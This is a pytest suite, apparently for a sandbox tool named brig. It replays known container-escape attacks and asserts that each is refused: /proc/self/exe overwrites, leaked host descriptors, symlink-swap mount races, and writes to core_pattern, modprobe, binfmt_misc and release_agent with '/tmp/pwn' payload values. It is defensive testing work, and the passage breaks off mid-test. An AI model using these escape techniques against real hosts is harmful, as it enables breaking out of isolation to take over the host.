"""The red-team catalogue (issue 9): container escapes that worked against
real runtimes, and the other ways out of a sandbox, each really attempted
from inside brig with the default profile, as root and rootless.

Every test is one attack. It fails when the attempt works — a step the
attack needs returns "ok", or the host shows the effect (a changed file, a
signalled process, a byte that came through). The programs are
tests/escape/probe_attack.c (most attacks), probe_fs.c, probe_proc.c,
probe_syscall.c and net_attack.py (network). `make escape` runs this file
alone and prints the table below the results; docs/security.md lists each
attack with what stops it.

Each test carries @attack(ID, TECHNIQUE, CONTROL): the row of that table.
"""
import hashlib
import json
import os
import pathlib
import shutil
import socket
import stat
import subprocess
import threading
import time
import uuid

import pytest

from persist_helpers import cgroup_dirs_named
from proc_helpers import kill_own, kv, marker, pids_with, shell_quote, sleeping_host_process, wait_until

REPO = pathlib.Path(__file__).resolve().parents[2]
NET_ATTACK = REPO / "tests" / "escape" / "net_attack.py"
IS_ROOT = os.geteuid() == 0


def attack(ident, technique, control):
    """Mark a test as catalogue entry IDENT (the table's row)."""
    return pytest.mark.escape(ident, technique, control)


# ------------------------------------------------------------------ helpers

def run_probe(brig, program, *args, brig_args=(), **kw):
    """`brig run [brig_args] -- /probe ARGS` with PROGRAM bound at /probe;
    returns (Result, {key: value})."""
    kw.setdefault("timeout", 60)
    r = brig.run("run", "--ro-bind", f"{brig.program(program)}:/probe", *brig_args, "--", "/probe",
                 *map(str, args), **kw)
    return r, kv(r.stdout)


def refused(out, key, allowed=None):
    """The attack step KEY did not work (and, with ALLOWED, failed the way
    the control in charge fails it)."""
    assert key in out, f"the probe gave no result for {key!r}: {out}"
    assert out[key] != "ok", f"ATTACK WORKED: {key}=ok ({out})"
    if allowed is not None:
        assert out[key] in allowed, f"{key}={out[key]}, expected one of {sorted(allowed)} ({out})"


def killed_or_refused(out, key):
    refused(out, key, {"SYS", "EPERM", "ENOSYS"})


def sha(path):
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


def host_dir(brig, name, mode=0o755):
    """A directory outside the workspace (not visible inside)."""
    d = brig.base / name
    d.mkdir(exist_ok=True)
    d.chmod(mode)
    return d


def host_pid_of_brig_script(brig, inner):
    """A host command line whose brig has the pid the shell had: `$$` in
    INNER is brig's own (the supervisor's) pid."""
    return brig.prefix() + ["/bin/sh", "-c", f'exec "$0" {inner}', brig.exe]


@pytest.fixture
def host_sleeper(brig):
    """A host process of the same user as brig (nobody in rootless mode:
    it could normally signal and trace it), with a unique marker."""
    for p, mark in sleeping_host_process(brig):
        yield p.pid, mark


# ================================================= runtime CVEs, replayed

@attack("exe-self-overwrite", "CVE-2019-5736: overwrite the binary running the sandbox through /proc/self/exe",
        "read-only nosuid binds; /proc/self/exe reopen refused (EACCES/ETXTBSY)")
def test_exe_self_overwrite(brig):
    before = sha(brig.program("probe_attack"))
    r, out = run_probe(brig, "probe_attack", "exe")
    for k in ("self_exe_wronly", "self_exe_rdwr", "self_exe_reopen_wronly"):
        refused(out, k)
    assert sha(brig.program("probe_attack")) == before, "the probe's host binary changed"


@attack("overwrite-host-binary", "open a host binary or file for writing (/usr/bin/env, /bin/sh, /etc/passwd, a granted program)",
        "read-only binds (EROFS) below file permissions (EACCES); Landlock read-only rules")
def test_overwrite_host_binaries(brig):
    before = {p: sha(p) for p in ("/usr/bin/env", "/etc/passwd")}
    own = host_dir(brig, "ownprog")
    prog = own / "tool"
    shutil.copy2(brig.program("probe_attack"), prog)
    user = _report(brig, "--", "true").report["controls"]["user"]
    if IS_ROOT:  # owned by the sandbox user's host uid: only the mount can refuse
        for p in (own, prog):
            os.chown(p, user["host_uid"], user["host_gid"])
    prog_sha = sha(prog)
    for target in ("/usr/bin/env", "/bin/sh", "/etc/passwd", "/probe"):
        r, out = run_probe(brig, "probe_attack", "open-w", target)
        refused(out, "open_write", {"EACCES", "EROFS", "ETXTBSY"})
    # A granted program the sandbox user owns: only the mount stands in the way.
    r, out = run_probe(brig, "probe_attack", "open-w", "/own/tool", brig_args=("--ro-bind", f"{own}:/own"))
    refused(out, "open_write", {"EROFS"})
    assert {p: sha(p) for p in before} == before and sha(prog) == prog_sha


@attack("exe-init-overwrite", "CVE-2019-5736: overwrite brig itself through /proc/1/exe (pid 1 is brig's init)",
        "pid 1 not dumpable (PR_SET_DUMPABLE 0): ptrace-mode check on /proc/1/*")
def test_exe_init_overwrite(brig):
    binaries = [brig.exe, str(brig.bindir / "brig-engine"), str(brig.bindir / "brig-supervisor"),
                str(brig.bindir / "brig-serve")] + \
        [str(p) for p in brig.bindir.glob("libbrig.so*")]
    before = {b: sha(b) for b in binaries}
    r, out = run_probe(brig, "probe_attack", "exe")
    for k in ("init_exe_opath", "init_exe_rdonly", "init_exe_wronly", "init_exe_readlink", "init_map_files"):
        refused(out, k, {"EACCES", "EPERM"})
    assert {b: sha(b) for b in binaries} == before, "brig's binary or library changed"


@attack("exe-exec-race", "CVE-2019-5736 as runc exec met it: grab /proc/PID/exe of brig exec's process as it enters "
        "a persistent sandbox (a fork of brig until execve)",
        "the fork stays non-dumpable until execve; pid 1 not dumpable")
def test_exe_of_brig_exec_entering(brig):
    from persist_helpers import Sandboxes
    boxes = Sandboxes(brig)
    st = os.stat(brig.exe)
    before = sha(brig.exe)
    stop = brig.workspace / "stop-watching"
    try:
        name, _ = boxes.create("--ro-bind", f"{brig.program('probe_attack')}:/probe")
        watcher = boxes.popen_exec(name, "--", "/probe", "exe-watch", str(st.st_dev), str(st.st_ino), str(stop),
                                   text=True)
        for _ in range(80):
            r = boxes.exec(name, "--", "true")
            assert r.returncode == 0, r
        stop.touch()
        out, err = watcher.communicate(timeout=60)
        res = kv(out)
        assert int(res.get("rounds", 0)) > 0, (out, err)
        assert res["brig_exe_opened"] == "0" and res["brig_exe_writable"] == "0", \
            f"ATTACK WORKED: brig's binary reachable through /proc/PID/exe: {res}"
        # The watcher met processes in brig's window (refused) — so it would
        # have got brig had the window been open.
        assert int(res["exe_denied"]) > 0, f"the watcher never met an entering process: {res}"
    finally:
        problems = boxes.cleanup()
    assert not problems, problems
    assert sha(brig.exe) == before


@attack("leaked-host-fd", "CVE-2024-21626: a host directory/file descriptor leaked into the sandbox",
        "close_range(3, ~0, CLOEXEC) before execve")
def test_leaked_host_fd(brig):
    secret = host_dir(brig, "leaked")
    (secret / "flag").write_text(marker("leak"))
    dfd = os.open(secret, os.O_RDONLY | os.O_DIRECTORY)
    ffd = os.open(secret / "flag", os.O_RDONLY)
    try:
        r, out = run_probe(brig, "probe_attack", "fds", pass_fds=(dfd, ffd))
    finally:
        os.close(dfd)
        os.close(ffd)
    assert r.returncode == 0, r
    assert out.get("open_fds") == "", f"descriptors reached the command: {out}"


def _children(pid):
    kids = []
    for t in os.listdir(f"/proc/{pid}/task"):
        with open(f"/proc/{pid}/task/{t}/children") as f:
            kids += [int(x) for x in f.read().split()]
    return kids


def _fd_targets(pid):
    out = []
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            out.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    return out


@attack("exec-leaked-fd", "CVE-2024-21626 against brig create/exec: host directories leaked to both, and "
        "brig exec --cwd /proc/self/fd/N",
        "only stdio travels to pid 1; pid 1 keeps only its sync socket; cwd resolved inside the root")
def test_exec_leaked_fds_and_cwd(brig):
    from persist_helpers import Sandboxes
    boxes = Sandboxes(brig)
    secret = host_dir(brig, "execleak")
    mark = marker("execleak")
    (secret / "flag").write_text(mark)
    dfd = os.open(secret, os.O_RDONLY | os.O_DIRECTORY)
    try:
        name = boxes.new_name()
        boxes.names.append(name)
        cp = subprocess.run(brig.cmd("create", name, "--ro-bind", f"{brig.program('probe_attack')}:/probe"),
                            cwd=brig.workspace, env=brig.env(boxes.env()), pass_fds=(dfd,), capture_output=True,
                            text=True, timeout=60)
        assert cp.returncode == 0, cp
        cp = subprocess.run(brig.cmd("exec", name, "--", "/probe", "fds"), cwd=brig.workspace,
                            env=brig.env(boxes.env()), pass_fds=(dfd,), capture_output=True, text=True, timeout=60)
        assert cp.returncode == 0 and kv(cp.stdout).get("open_fds") == "", f"ATTACK WORKED: {cp}"
        for n in sorted({dfd, *range(3, 16)}):
            cp = subprocess.run(brig.cmd("exec", name, "--cwd", f"/proc/self/fd/{n}", "--", "/probe", "cwd"),
                                cwd=brig.workspace, env=brig.env(boxes.env()), pass_fds=(dfd,), capture_output=True,
                                text=True, timeout=60)
            out = kv(cp.stdout)
            assert mark not in cp.stdout
            if cp.returncode == 0:
                assert out["getcwd"].startswith("/") and out["dotdot_is_root"] == "yes", \
                    f"ATTACK WORKED: brig exec --cwd /proc/self/fd/{n} put the command outside the root: {out}"
            else:
                assert cp.returncode == 125 and "cwd" in cp.stderr, cp
        # Pid 1 of the persistent sandbox holds none of it either.
        sup = boxes.state(name)["supervisor_pid"]
        inits = [k for k in _children(sup) if _cmdline(k) == b"brig-init"]
        assert len(inits) == 1, f"no pid 1 under the supervisor {sup}"
        assert str(secret) not in _fd_targets(inits[0]), f"ATTACK POSSIBLE: pid 1 holds {_fd_targets(inits[0])}"
    finally:
        os.close(dfd)
        problems = boxes.cleanup()
    assert not problems, problems


@attack("leaked-fd-in-init", "CVE-2024-21626: a leaked host directory kept open by the sandbox's pid 1 (brig's init)",
        "init closes every descriptor but its signalfd and sync socket")
def test_leaked_host_fd_not_kept_by_init(brig):
    secret = host_dir(brig, "leakedinit")
    dfd = os.open(secret, os.O_RDONLY | os.O_DIRECTORY)
    try:
        p = subprocess.Popen(brig.cmd("run", "--", "sleep", "30"), cwd=brig.workspace, env=brig.env(),
                             pass_fds=(dfd,), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    finally:
        os.close(dfd)
    try:
        # p.pid is brig (setpriv executes it in place); its child is pid 1 inside.
        assert wait_until(lambda: any(_cmdline(k) == b"brig-init" for k in _children(p.pid)), 10), \
            "brig's init never came up"
        init = next(k for k in _children(p.pid) if _cmdline(k) == b"brig-init")
        held = lambda: [t for t in _fd_targets(init) if t == str(secret)]
        # Bounded wait for init to finish its start; a kept descriptor never goes.
        assert wait_until(lambda: not held(), 5), f"ATTACK POSSIBLE: pid 1 holds the leaked {held()}"
        assert all(not t.startswith("/") or t == "/dev/null" for t in _fd_targets(init)), _fd_targets(init)
    finally:
        # SIGTERM: brig forwards it, the command ends, brig cleans up (a
        # SIGKILLed brig leaves its cgroup for the next run to remove).
        p.terminate()
        p.wait(timeout=30)


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().rstrip(b"\0")
    except OSError:
        return b""


@attack("leaked-fd-cwd", "CVE-2024-21626: working directory /proc/self/fd/N (a leaked host directory)",
        "cwd resolved inside the new root: openat2(RESOLVE_IN_ROOT|RESOLVE_NO_MAGICLINKS)")
def test_cwd_through_leaked_fd(brig):
    secret = host_dir(brig, "leakedcwd")
    mark = marker("cwd")
    (secret / "flag").write_text(mark)
    dfd = os.open(secret, os.O_RDONLY | os.O_DIRECTORY)
    try:
        # The leaked one, and every descriptor brig itself may hold while it
        # builds the sandbox.
        for n in sorted({dfd, *range(3, 16)}):
            r, out = run_probe(brig, "probe_attack", "cwd", brig_args=("--cwd", f"/proc/self/fd/{n}"),
                               pass_fds=(dfd,))
            assert mark not in r.stdout
            if r.returncode == 0:
                # Ran: then it must be somewhere inside the sandbox's root.
                assert out["getcwd"].startswith("/") and out["dotdot_is_root"] == "yes", \
                    f"ATTACK WORKED: --cwd /proc/self/fd/{n} put the command outside the root: {out}"
            else:
                assert r.returncode == 125 and "cwd" in r.stderr, r
        # The leaked directory itself must have been refused, not entered.
        r, out = run_probe(brig, "probe_attack", "cwd", brig_args=("--cwd", f"/proc/self/fd/{dfd}"),
                           pass_fds=(dfd,))
        assert r.returncode == 125, f"ATTACK WORKED: the command ran in a leaked host directory: {r}"
    finally:
        os.close(dfd)


@attack("stdio-directory", "CVE-2024-21626 through stdio: the caller's stdin (or stdout) is a directory or O_PATH "
        "descriptor, a handle on a host directory for the command to openat() from",
        "stdio checked before execve: a directory or path-only descriptor is refused (125)")
def test_directory_as_stdio(brig):
    mark = marker("denied")
    secret = brig.workspace / "secret.txt"
    secret.write_text(mark)
    secret.chmod(0o644)
    deny = ("--deny", str(secret))
    # Control: inside, the denied file is masked (empty).
    r = brig.sh("cat secret.txt; echo end", *deny)
    assert r.returncode == 0 and mark not in r.stdout and "end" in r.stdout, r
    for flags, target in ((os.O_RDONLY | os.O_DIRECTORY, "stdin"), (os.O_PATH, "stdin"), (os.O_PATH, "stdout")):
        fd = os.open(brig.workspace, flags)
        try:
            script = "cat /proc/self/fd/0/secret.txt /proc/self/fd/1/secret.txt >&2 2>/dev/null; echo RAN >&2"
            cp = subprocess.run(brig.cmd("run", *deny, "--", "sh", "-c", script), cwd=brig.workspace,
                                env=brig.env(), stderr=subprocess.PIPE, text=True, timeout=60,
                                **({"stdin": fd} if target == "stdin" else {"stdout": fd, "stdin": subprocess.DEVNULL}))
        finally:
            os.close(fd)
        assert mark not in cp.stderr, f"ATTACK WORKED: the denied file read through {target}: {cp.stderr}"
        assert cp.returncode == 125 and "directory" in cp.stderr and "RAN" not in cp.stderr, cp.stderr


@attack("stdio-reopen-write", "reopen the caller's read-only stdin (a host file) for writing through /proc/self/fd/0",
        "Landlock: the reopened path is outside the writable grants (EACCES)")
def test_reopen_stdin_for_writing(brig):
    victim = host_dir(brig, "victimdir") / "rc"
    victim.write_text("original\n")
    victim.chmod(0o666)  # writable by anyone on the host: only the sandbox may not
    with open(victim) as f:
        cp = subprocess.run(brig.cmd("run", "--", "sh", "-c", "echo pwned >> /proc/self/fd/0; echo rc=$?"),
                            stdin=f, cwd=brig.workspace, env=brig.env(), capture_output=True, text=True, timeout=60)
    assert "rc=" in cp.stdout and "rc=0" not in cp.stdout, cp
    assert victim.read_text() == "original\n", "ATTACK WORKED: the host file changed"


@attack("bind-target-race", "CVE-2021-30465: swap a mount destination's parent for a symlink while brig mounts",
        "openat2(RESOLVE_BENEATH|RESOLVE_NO_SYMLINKS) per component; mounts by fd (move_mount)")
def test_symlink_swap_race_on_bind_targets(brig):
    outside = host_dir(brig, "outside", 0o777)
    (outside / "keep").write_text("outside")
    src = host_dir(brig, "src")
    mark = marker("src")
    (src / "flag").write_text(mark)
    race = brig.workspace / "race"
    race.mkdir()
    (race / "a").mkdir()
    (race / "a" / "m").mkdir()
    (race / "a" / "t").mkdir()
    (race / "b").symlink_to(outside)
    for p in (race, race / "a", race / "a" / "m", race / "a" / "t"):
        brig.chown(p)
    # The attacker is a sandbox too: an earlier run on the same workspace,
    # still swapping a/ and b/ (RENAME_EXCHANGE) as fast as it can.
    racer = subprocess.Popen(brig.cmd("run", "--ro-bind", f"{brig.program('probe_attack')}:/probe", "--",
                                      "/probe", "swap", race / "a", race / "b"),
                             cwd=brig.workspace, env=brig.env(), stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    ran = refused_symlink = 0
    try:
        for i in range(120):
            # The racer keeps swapping while the command runs: the mounted
            # directory is at a/ or at b/ by then; the symlink's target
            # (outside) does not exist inside.
            r = brig.sh(f"for i in 1 2 3 4 5 6 7 8; do cat {race}/a/m/flag {race}/b/m/flag 2>/dev/null; done; "
                        "echo done", "--ro-bind", f"{src}:{race}/a/m", "--tmpfs", f"{race}/a/t:1M", timeout=30)
            if r.returncode == 0:
                ran += 1
                assert mark in r.stdout, f"run {i}: the bind landed somewhere else: {r}"
            else:
                assert r.returncode == 125 and ("symlink" in r.stderr or "No such file" in r.stderr), \
                    f"run {i}: unexpected failure {r}"
                refused_symlink += "symlink" in r.stderr
            assert sorted(p.name for p in outside.iterdir()) == ["keep"], \
                f"ATTACK WORKED: brig created mount points outside the sandbox: {list(outside.iterdir())}"
    finally:
        racer.terminate()  # brig forwards it and cleans up
        racer.wait(timeout=30)
    assert racer.returncode == 128 + 15, f"the racing sandbox did not run: {racer.stderr.read()}"
    # The race must really have happened both ways for the test to mean anything.
    assert refused_symlink > 0, f"the swap never hit brig's walk (ran={ran}); the test proved nothing"


@attack("hostile-entries", "CVE-2025-31133: grant entries that are symlinks where brig masks or mounts (/dev/null, /proc)",
        "binds over /, /dev, /proc refused; masks opened with RESOLVE_NO_SYMLINKS (\"became a symlink\")")
def test_hostile_entries_replace_dev_null_and_proc(brig):
    outside = host_dir(brig, "outside31133", 0o777)
    flag = outside / "flag"
    flag.write_text("untouched")
    hostile = host_dir(brig, "hostile")
    (hostile / "private").symlink_to(outside)                  # where brig masks /etc/ssl/private
    (hostile / "null").symlink_to(flag)                        # /dev/null
    (hostile / "sysrq-trigger").symlink_to("/proc/sys/kernel/core_pattern")
    for dst in ("/", "/dev", "/proc", "/proc/sys", "/dev/pts"):
        r = brig.sh("echo PWNED > /dev/null; echo RAN", "--bind", f"{hostile}:{dst}")
        assert r.returncode == 125 and "RAN" not in r.stdout, f"bind over {dst} accepted: {r}"
    r = brig.sh("cat /etc/ssl/private/flag; echo RAN", "--bind", f"{hostile}:/etc/ssl")
    assert r.returncode == 125 and "symlink" in r.stderr, f"a symlink took a mask's place: {r}"
    # The workspace itself full of such entries changes nothing.
    for name in ("dev", "proc", "null", ".brig-mask"):
        (brig.workspace / name).symlink_to(flag)
    r = brig.sh("echo PWNED > /dev/null && echo devnull-ok; cat /proc/self/stat >/dev/null && echo proc-ok")
    assert r.returncode == 0 and "devnull-ok" in r.stdout and "proc-ok" in r.stdout, r
    assert flag.read_text() == "untouched", "ATTACK WORKED: a write reached the file behind the symlink"


# ============================================== kernel knobs through /proc and /sys

def _host_read(path):
    return pathlib.Path(path).read_text()


@pytest.mark.parametrize("path", ["/proc/sys/vm/swappiness", "/proc/sys/kernel/panic", "/proc/sys/fs/file-max",
                                  "/proc/sys/net/core/somaxconn"])
@attack("proc-sys-write", "write host kernel tunables through /proc/sys",
        "/proc/sys bound read-only (EROFS); not root on the host")
def test_proc_sys_write(brig, path):
    # The value written is the current one: harmless even if it got through.
    before = _host_read(path)
    r, out = run_probe(brig, "probe_attack", "write", path, before)
    refused(out, "open_write", {"EROFS", "EACCES", "EPERM"})
    assert _host_read(path) == before


@attack("sysrq-trigger", "/proc/sysrq-trigger (crash or reboot the host)",
        "/proc/sysrq-trigger bound read-only (EROFS)")
def test_sysrq_trigger(brig):
    if not os.path.exists("/proc/sysrq-trigger"):
        pytest.skip("SYSRQ NOT TESTED: this kernel has no /proc/sysrq-trigger (CONFIG_MAGIC_SYSRQ off)")
    # "h" only prints the help: harmless even if it got through.
    r, out = run_probe(brig, "probe_attack", "write", "/proc/sysrq-trigger", "h")
    refused(out, "open_write", {"EROFS", "EACCES", "EPERM"})


@attack("core-pattern", "core_pattern pipe helper: the kernel runs '|prog' as root on a crash",
        "/proc/sys read-only; RLIMIT_CORE 0")
def test_core_pattern(brig):
    before = _host_read("/proc/sys/kernel/core_pattern")
    r, out = run_probe(brig, "probe_attack", "write", "/proc/sys/kernel/core_pattern", "|/tmp/pwn %p")
    refused(out, "open_write", {"EROFS", "EACCES", "EPERM"})
    assert _host_read("/proc/sys/kernel/core_pattern") == before


@attack("modprobe-path", "kernel.modprobe: the kernel runs it as root for an unknown binary format",
        "/proc/sys read-only")
def test_modprobe_path(brig):
    path = "/proc/sys/kernel/modprobe"
    if not os.path.exists(path):
        pytest.skip("MODPROBE PATH NOT TESTED: this kernel has no /proc/sys/kernel/modprobe")
    before = _host_read(path)
    r, out = run_probe(brig, "probe_attack", "write", path, "/tmp/pwn")
    refused(out, "open_write", {"EROFS", "EACCES", "EPERM"})
    assert _host_read(path) == before


@attack("binfmt-misc", "register a binfmt_misc interpreter (runs for every matching exec on the host)",
        "/proc/sys read-only; mount(binfmt_misc) refused by seccomp")
def test_binfmt_misc(brig):
    r, out = run_probe(brig, "probe_attack", "write", "/proc/sys/fs/binfmt_misc/register",
                       ":pwn:M::brig::/tmp/pwn:")
    refused(out, "open_write", {"EROFS", "EACCES", "EPERM", "ENOENT"})
    r, fs = run_probe(brig, "probe_fs", "mount-tmpfs", "/tmp")   # the mount needed to reach a fresh one
    assert r.returncode == 1 and ": fail " in r.stdout, r


@attack("uevent-helper", "/sys/kernel/uevent_helper and kernel.hotplug: the kernel runs them as root",
        "no /sys by default (read-only sysfs with --sys); /proc/sys read-only")
def test_uevent_helper(brig):
    for path in ("/sys/kernel/uevent_helper", "/proc/sys/kernel/hotplug"):
        r, out = run_probe(brig, "probe_attack", "write", path, "/tmp/pwn")
        refused(out, "open_write", {"EROFS", "EACCES", "EPERM", "ENOENT"})


@attack("psi-trigger", "PSI triggers: writes into the host kernel through /proc/pressure",
        "/proc/pressure bound read-only; Landlock (no writes to /proc)")
def test_psi_trigger(brig):
    if not os.path.exists("/proc/pressure/memory"):
        pytest.skip("PSI NOT TESTED: this kernel has no /proc/pressure")
    r, out = run_probe(brig, "probe_attack", "write", "/proc/pressure/memory", "some 150000 2000000")
    refused(out, "open_write", {"EROFS", "EACCES"})
    r = brig.sh("grep ' /proc/pressure ' /proc/self/mountinfo")
    assert " ro," in r.stdout, f"/proc/pressure is not a read-only mount (only Landlock holds it): {r}"


@attack("cgroup-release-agent", "CVE-2022-0492: new cgroup+mount namespace, mount cgroup v1, write release_agent",
        "seccomp: unshare and mount refused; no cgroupfs inside")
def test_cgroup_release_agent(brig):
    r, out = run_probe(brig, "probe_attack", "cgroup")
    for k in ("unshare_cgroup", "unshare_mount", "unshare_user_mount_cgroup", "mount_cgroup_rdma",
              "mount_cgroup_memory", "mount_cgroup2", "fsopen_cgroup"):
        refused(out, k, {"EPERM"})
    assert out["release_agents_visible"] == "0", out


@attack("host-proc-entries", "host processes and kernel data in /proc (/proc/PID, kcore, kmsg, keys)",
        "a new proc for the sandbox's pid namespace; Docker's masked paths; CAP_SYSLOG absent")
def test_host_proc_entries(brig, host_sleeper):
    pid, mark = host_sleeper
    rev = mark[::-1]
    r, out = run_probe(brig, "probe_attack", "memscan", rev)
    assert out["secret_found"] == "0" and mark not in r.stdout, f"a host process is visible: {r}"
    r, out = run_probe(brig, "probe_proc", "procopen", pid)
    for k in ("open_status", "open_cmdline", "open_environ", "access_dir"):
        refused(out, k)
    r = brig.sh("for f in /proc/kcore /proc/kmsg /proc/keys /proc/timer_list /proc/sched_debug; do "
                "if head -c 64 $f >/dev/null 2>&1 && [ -s $f ]; then echo READ $f; fi; done; echo end")
    assert "end" in r.stdout and "READ" not in r.stdout, r


@attack("oom-score-adj", "oom_score_adj -1000: make the host's OOM killer pick host processes instead",
        "Landlock (no writes into /proc); CAP_SYS_RESOURCE absent")
def test_oom_score_adj(brig):
    r, out = run_probe(brig, "probe_attack", "write", "/proc/self/oom_score_adj", "-1000")
    refused(out, "open_write", {"EACCES", "EPERM"})


@attack("rt-priority", "real-time scheduling, nice -20, real-time I/O class: starve the host's CPU and disk",
        "no CAP_SYS_NICE; RLIMIT_RTPRIO 0")
def test_realtime_priority(brig):
    r, out = run_probe(brig, "probe_attack", "prio")
    for k in ("nice_minus20", "sched_fifo", "sched_rr", "ioprio_rt"):
        refused(out, k, {"EACCES", "EPERM"})


@attack("rlimit-raise", "raise the hard resource limits brig set (files, processes, core, locked memory)",
        "no CAP_SYS_RESOURCE: hard limits only go down")
def test_rlimit_raise(brig):
    r, out = run_probe(brig, "probe_attack", "rlimits")
    keys = [k for k in out if k.startswith("raise_")]
    assert len(keys) == 5, r
    for k in keys:
        if out[k] != "unlimited-already":
            refused(out, k, {"EPERM"})


@attack("mlock-memory", "lock memory the host can then never reclaim",
        "RLIMIT_MEMLOCK 8 MiB; no CAP_IPC_LOCK")
def test_mlock(brig):
    r, out = run_probe(brig, "probe_attack", "mlock", 64)
    refused(out, "mlock", {"ENOMEM", "EPERM"})
    refused(out, "mlockall", {"ENOMEM", "EPERM"})


@attack("core-dump", "crash to leave a core (memory, secrets) on the host: a core file, or the host's pipe helper; "
        "raise RLIMIT_CORE first",
        "RLIMIT_CORE 1 byte, hard (no file: below a page; no pipe: the kernel's 'never pipe' value); "
        "core_pattern read-only")
def test_core_dump(brig):
    r = brig.sh("python3 -c 'import resource; print(\"core\", *resource.getrlimit(resource.RLIMIT_CORE))'; "
                "ulimit -c unlimited && echo RAISED; sh -c 'kill -SEGV $$'; echo crashed=$?")
    assert "RAISED" not in r.stdout and "crashed=139" in r.stdout, r
    # 0 would stop core files only; 1 stops pipes to the host's helper too.
    assert "core 1 1" in r.stdout, f"ATTACK POSSIBLE: a host that pipes cores would run its helper: {r}"
    cores = [p for p in brig.workspace.iterdir() if p.name.startswith("core")]
    assert cores == [], f"ATTACK WORKED: {cores}"


# ================================================== devices and the filesystem

@attack("mknod-device", "mknod a block device (the host disk) or /dev/mem and open it",
        "seccomp mknod S_IFBLK/S_IFCHR; nodev on every writable mount; no CAP_MKNOD")
def test_mknod_block_device(brig):
    for d in ("/tmp", str(brig.workspace)):
        r, out = run_probe(brig, "probe_attack", "mknod", d)
        for k in ("mknod_blk_sda", "mknod_blk_vda", "mknod_chr_mem", "mknod_chr_kmsg"):
            refused(out, k)
    nodes = [p for p in brig.workspace.iterdir() if stat.S_ISBLK(p.lstat().st_mode) or stat.S_ISCHR(p.lstat().st_mode)]
    assert nodes == [], f"device nodes on the host: {nodes}"


@attack("host-devices", "open host devices: /dev/mem, /dev/kmsg, disks, /dev/port, /dev/vhost-*",
        "a minimal /dev of brig's own (null zero full random urandom tty pts shm)")
def test_host_devices(brig):
    r = brig.sh("for f in /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/vda /dev/sda /dev/nvme0n1 /dev/loop0 "
                "/dev/fuse /dev/net/tun /dev/vhost-net /dev/kvm /dev/console /dev/tty0 /dev/cpu; do "
                "[ -e $f ] && echo PRESENT $f; done; echo end")
    assert "end" in r.stdout and "PRESENT" not in r.stdout, r


@attack("shocker", "open_by_handle_at with a real handle of a host file on the workspace's filesystem (Docker 'shocker')",
        "seccomp open_by_handle_at; CAP_DAC_READ_SEARCH only in the initial namespace")
def test_shocker_open_by_handle_at(brig):
    secret = host_dir(brig, "shocker", 0o755)
    mark = marker("shock")
    (secret / "shadow").write_text(mark)
    (secret / "shadow").chmod(0o644)
    cp = subprocess.run([brig.program("probe_attack"), "handle-of", str(secret / "shadow")],
                        capture_output=True, text=True, check=True)
    handle = kv(cp.stdout)["handle"]
    r, out = run_probe(brig, "probe_attack", "open-handle", brig.workspace, handle)
    refused(out, "open_by_handle_at", {"EPERM"})
    assert mark not in r.stdout
    # Control: on the host, as root, the same handle opens (so the attack is real).
    if IS_ROOT:
        cp = subprocess.run([brig.program("probe_attack"), "open-handle", str(brig.workspace), handle],
                            capture_output=True, text=True)
        assert mark in cp.stdout, f"control: the handle does not work on the host: {cp}"


@attack("mount-syscalls", "mount, remount / read-write, umount a mask, pivot_root, new mount API",
        "seccomp: every mount call refused; no CAP_SYS_ADMIN")
def test_mount_syscalls(brig):
    r, out = run_probe(brig, "probe_proc", "mount")
    for k in ("mount_tmpfs", "remount_root_rw", "bind_root", "umount_proc", "mount_proc", "pivot_root",
              "fsopen_tmpfs", "open_tree_clone"):
        refused(out, k, {"EPERM"})


@attack("chroot-escape", "the double chroot: chroot into a subdirectory, climb .., chroot('.')",
        "seccomp chroot; pivot_root + detached old root (nothing above /)")
def test_chroot_escape(brig):
    r, out = run_probe(brig, "probe_fs", "chroot-escape", "/tmp")
    assert r.returncode == 1 and "fail EPERM" in r.stdout, r


@attack("dotdot-workspace", "climb out of the workspace bind with ..",
        "pivot_root onto brig's tmpfs root; old root detached")
def test_dotdot_out_of_workspace(brig):
    host_dir(brig, "sibling-secret")
    r = brig.sh(f"/probe dotdot {brig.workspace} 1; /probe dotdot {brig.workspace} 64; /probe list /",
                "--ro-bind", f"{brig.program('probe_fs')}:/probe")
    lines = [l for l in r.stdout.splitlines() if ": ok" in l]
    assert len(lines) == 3, r
    assert "sibling-secret" not in r.stdout, f"ATTACK WORKED: the host directory next to the workspace: {r}"
    assert lines[1].split("entries=")[1] == lines[2].split("entries=")[1], "climbing did not end at the sandbox root"


@attack("workspace-symlink", "symlinks in the workspace to host files (absolute, relative, to a masked secret)",
        "paths resolve inside the new root; secrets masked with empty files")
def test_workspace_symlinks(brig):
    secret = host_dir(brig, "symsecret")
    mark = marker("sym")
    (secret / "key").write_text(mark)
    (secret / "key").chmod(0o644)
    (brig.workspace / "abs").symlink_to(secret / "key")
    (brig.workspace / "rel").symlink_to(os.path.relpath(secret / "key", brig.workspace))
    (brig.workspace / "shadow").symlink_to("/etc/shadow")
    r = brig.sh("cat abs rel; wc -c < shadow; echo end")
    assert "end" in r.stdout and mark not in r.stdout, r
    assert r.stdout.split()[-2] == "0", f"/etc/shadow is not empty inside: {r}"


@attack("opath-reopen", "reopen a read-only file for writing through /proc/self/fd (O_PATH trick)",
        "read-only mounts: the reopen checks the mount (EROFS)")
def test_opath_reopen(brig):
    r, out = run_probe(brig, "probe_fs", "opath-reopen", "/etc/hostname", "w")
    assert r.returncode == 1 and ("EROFS" in r.stdout or "EACCES" in r.stdout), r


@attack("write-system-dirs", "write /usr, /etc, the root; remount them read-write",
        "read-only binds (MOUNT_ATTR_RDONLY, recursive); mount refused; Landlock read-only rules")
def test_write_system_dirs(brig):
    for target in ("/usr/bin/brig-pwn", "/etc/brig-pwn", "/brig-pwn", "/lib/brig-pwn"):
        r, out = run_probe(brig, "probe_fs", "write", target)
        assert r.returncode == 1 and ": fail " in r.stdout, r
    r, out = run_probe(brig, "probe_fs", "remount-rw", "/usr")
    assert r.returncode == 1 and "fail EPERM" in r.stdout, r
    assert not os.path.exists("/usr/bin/brig-pwn") and not os.path.exists("/etc/brig-pwn")


@attack("hardlink-host-file", "hard-link a host file (shadow-like, /etc/passwd) into the workspace for a later chown/write",
        "mount boundaries (EXDEV); host path not visible; protected_hardlinks")
